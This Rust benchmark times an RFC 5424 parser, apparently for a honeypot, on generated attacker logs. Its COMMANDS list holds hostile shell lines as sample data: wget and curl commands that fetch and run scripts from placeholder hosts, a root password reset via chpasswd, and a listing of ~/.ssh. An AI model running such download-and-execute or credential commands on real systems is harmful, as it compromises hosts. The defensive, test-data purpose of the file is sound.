//! RFC 5424 parser throughput on one core over a generated file of realistic events.
//!
//! Generates `RFC5424_BENCH_LINES` (100 000) lines deterministically (no clock, no
//! randomness source: a fixed xorshift seed), writes them to `RFC5424_BENCH_FILE`
//! (`target/rfc5424-bench.log`) for the reference implementation to read, reads the file
//! back and measures, `RFC5424_BENCH_ROUNDS` (5) times each, median reported:
//! - `parse`: [`parse_line`] on every line;
//! - `extract`: what ingestion does per line: [`parse_line`], [`effective`] (event type,
//!   the `relay@55555` fields, double-wrap unwrapping), [`Line::timestamp_micros`] and
//!   [`attacker_addr`].
//!
//! The mix: ssh `auth_attempt` with `secret_b64` (30 %), http `request` with a JSON-list
//! `headers` and sometimes a POST body holding `]` (20 %), `http_request_fingerprint`
//! with `headers_ordered` and `ja4h` (10 %), rsyslog double-wrapped bash `command` lines
//! (15 %), `connect`/`disconnect` (25 %).
//!
//! Run: `cargo bench -p decnet-wire --bench rfc5424_parse`, or `bench/parser-throughput.sh`
//! which pins it to one core and runs the Python reference on the same file.

#![allow(clippy::print_stdout, clippy::unwrap_used, clippy::expect_used)]

use std::hint::black_box;
use std::path::PathBuf;
use std::time::Instant;

use base64::Engine as _;
use decnet_wire::rfc5424::{Line, Severity, attacker_addr, effective, format_line, parse_line};
use time::OffsetDateTime;

/// A fixed-seed xorshift64* generator: the same file on every run.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len() as u64) as usize]
    }
    fn ip(&mut self) -> String {
        let nets = [
            "203.0.113",
            "198.51.100",
            "192.0.2",
            "45.155.205",
            "185.220.101",
        ];
        format!("{}.{}", self.pick(&nets), 1 + self.below(254))
    }
}

const USERS: [&str; 8] = [
    "root", "admin", "ubuntu", "oracle", "test", "pi", "postgres", "git",
];
const PASSWORDS: [&str; 8] = [
    "123456",
    "admin",
    "P@ssw0rd!",
    "root",
    "qwerty\"]x",
    "letmein",
    "changeme",
    "toor\\",
];
const PATHS: [&str; 6] = [
    "/",
    "/wp-login.php",
    "/.env",
    "/admin/config.php",
    "/cgi-bin/luci/;stok=/locale",
    "/api/v1/pods",
];
const AGENTS: [&str; 4] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
    "curl/8.5.0",
    "python-requests/2.31.0",
    "Mozilla/5.0 zgrab/0.x",
];
const COMMANDS: [&str; 6] = [
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "wget http://198.51.100.23/x.sh -O- | sh",
    "echo \"root:x\" | chpasswd",
    "cd /tmp; curl -s http://203.0.113.50/b > b; chmod +x b; ./b",
    "ls -la ~/.ssh",
];

/// One deterministic file of `n` lines (newline-terminated).
fn generate(n: usize) -> String {
    let mut rng = Rng(0x00de_c0de_5424_5424);
    let mut out = String::with_capacity(n * 400);
    let start = 1_764_201_600_000_000_i64; // 2025-11-27T00:00:00Z
    for i in 0..n {
        let micros = start + i as i64 * 7_919;
        let ts = OffsetDateTime::from_unix_timestamp_nanos(i128::from(micros) * 1000).unwrap();
        let decky = format!("decky-{:02}", rng.below(24) + 1);
        let ip = rng.ip();
        let port = (1024 + rng.below(64_000)).to_string();
        let roll = rng.below(100);
        let line = if roll < 30 {
            let user = rng.pick(&USERS);
            let pass = rng.pick(&PASSWORDS);
            let b64 = base64::engine::general_purpose::STANDARD.encode(pass);
            let printable: String = pass
                .chars()
                .map(|c| if (' '..='~').contains(&c) { c } else { '?' })
                .collect();
            let outcome = if rng.below(50) == 0 {
                "success"
            } else {
                "failure"
            };
            format_line(
                Severity::Warning,
                ts,
                &decky,
                "auth-helper",
                "auth_attempt",
                &[
                    ("src_ip", &ip),
                    ("src_port", &port),
                    ("username", user),
                    ("principal", user),
                    ("secret_kind", "plaintext"),
                    ("secret_printable", &printable),
                    ("secret_b64", &b64),
                    ("outcome", outcome),
                    ("auth_path", "pam_exec"),
                ],
                None,
            )
        } else if roll < 50 {
            let path = rng.pick(&PATHS);
            let agent = rng.pick(&AGENTS);
            let post = rng.below(3) == 0;
            let headers = format!(
                r#"[["Host", "{decky}.example.test"], ["User-Agent", "{agent}"], ["Accept", "*/*"], ["Connection", "close"]]"#
            );
            let mut fields: Vec<(&str, &str)> = vec![
                ("src_ip", &ip),
                ("src_port", &port),
                ("method", if post { "POST" } else { "GET" }),
                ("path", path),
                ("headers", &headers),
                ("user_agent", agent),
            ];
            let body;
            if post {
                body = format!(
                    "log={}&pwd={}&rememberme[]=forever&redirect_to=%2Fwp-admin%2F",
                    rng.pick(&USERS),
                    rng.pick(&PASSWORDS)
                );
                fields.push(("body", &body));
                fields.push(("form_user", "admin"));
                fields.push(("form_pass", "hunter2"));
            }
            fields.push(("status", "200"));
            format_line(Severity::Info, ts, &decky, "http", "request", &fields, None)
        } else if roll < 60 {
            let agent = rng.pick(&AGENTS);
            format_line(
                Severity::Info,
                ts,
                &decky,
                "http",
                "http_request_fingerprint",
                &[
                    ("src_ip", &ip),
                    ("src_port", &port),
                    ("method", "GET"),
                    (
                        "headers_ordered",
                        r#"["Host", "User-Agent", "Accept", "Accept-Encoding", "Connection"]"#,
                    ),
                    ("user_agent", agent),
                    (
                        "ja4h",
                        "ge11nn050000_4740ae6347b0_000000000000_000000000000",
                    ),
                    ("path", rng.pick(&PATHS)),
                ],
                None,
            )
        } else if roll < 75 {
            // rsyslog relaying a `logger --rfc5424 --msgid command` line: outer MSGID
            // `-`, the whole inner line as MSG, the address only in the prose.
            let pid = 1000 + rng.below(30_000);
            let cmd = rng.pick(&COMMANDS);
            let inner = format_line(
                Severity::Notice,
                ts,
                &decky,
                "bash",
                "command",
                &[],
                Some(&format!("CMD uid=0 user=root src={ip} pwd=/root cmd={cmd}")),
            );
            let inner = inner.replacen(" bash - command", &format!(" bash {pid} command"), 1);
            let outer = format_line(Severity::Notice, ts, &decky, "bash", "-", &[], Some(&inner));
            outer.replacen(" bash - - - ", &format!(" bash {pid} - - "), 1)
        } else {
            let kind = if rng.below(2) == 0 {
                "connect"
            } else {
                "disconnect"
            };
            let svc = rng.pick(&["ssh", "telnet", "ftp", "smtp", "redis", "mysql"]);
            format_line(
                Severity::Info,
                ts,
                &decky,
                svc,
                kind,
                &[("src_ip", &ip), ("src_port", &port), ("dst_port", "22")],
                None,
            )
        };
        out.push_str(&line);
        out.push('\n');
    }
    out
}

fn env_usize(name: &str, default: usize) -> usize {
    std::env::var(name)
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(default)
}

/// Runs `f` over all lines `rounds` times; returns lines/s per round.
fn measure(lines: &[&str], rounds: usize, mut f: impl FnMut(&str) -> usize) -> Vec<f64> {
    (0..rounds)
        .map(|_| {
            let t = Instant::now();
            let mut acc = 0usize;
            for l in lines {
                acc = acc.wrapping_add(f(l));
            }
            black_box(acc);
            lines.len() as f64 / t.elapsed().as_secs_f64()
        })
        .collect()
}

fn median(mut v: Vec<f64>) -> f64 {
    v.sort_by(f64::total_cmp);
    v[v.len() / 2]
}

fn main() {
    let n = env_usize("RFC5424_BENCH_LINES", 100_000);
    let rounds = env_usize("RFC5424_BENCH_ROUNDS", 5).max(1);
    let path = std::env::var_os("RFC5424_BENCH_FILE").map_or_else(
        || PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../target/rfc5424-bench.log"),
        PathBuf::from,
    );
    std::fs::write(&path, generate(n)).expect("write the bench file");
    let text = std::fs::read_to_string(&path).expect("read the bench file");
    let lines: Vec<&str> = text.lines().collect();
    let bytes = text.len();

    // What the parser recovers, for the comparison with the reference's regexes.
    let mut fields = 0usize;
    let mut with_addr = 0usize;
    let mut commands = 0usize;
    for l in &lines {
        let line = parse_line(l).expect("generated lines parse");
        let ev = effective(&line);
        fields += ev.params.len();
        with_addr += usize::from(attacker_addr(&line).is_some());
        commands += usize::from(ev.event_type == "command");
    }

    let parse = median(measure(&lines, rounds, |l| {
        parse_line(l).map_or(0, |p: Line| p.elements.len())
    }));
    let extract = median(measure(&lines, rounds, |l| {
        let Ok(line) = parse_line(l) else { return 0 };
        let ev = effective(&line);
        let ts = line.timestamp_micros().unwrap_or(0);
        let addr = attacker_addr(&line).map_or(0, |(_, p)| usize::from(p.unwrap_or(1)));
        ev.params.len() + ev.event_type.len() + ts as usize + addr
    }));
    println!(
        "file={} lines={} bytes={bytes} rounds={rounds}",
        path.display(),
        lines.len()
    );
    println!("rust_parse_lines_per_s={parse:.0}");
    println!("rust_extract_lines_per_s={extract:.0}");
    println!("rust_fields={fields} rust_with_addr={with_addr} rust_commands={commands}");
}
